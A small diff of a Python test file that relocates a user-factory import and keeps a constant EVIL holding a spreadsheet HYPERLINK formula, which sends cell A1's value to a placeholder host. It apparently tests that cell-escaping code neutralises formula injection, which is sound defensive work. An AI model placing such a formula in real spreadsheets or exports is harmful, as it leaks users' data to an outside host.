@@ -8,8 +8,8 @@ import pytest
 from openpyxl import load_workbook
 
 from civica.accounts.roles import Role
-from civica.accounts.tests.factories import make_user
 from civica.tables import frame_csv, safe_cell
+from civica.testing.personas import make_user
 
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"clic")'
 
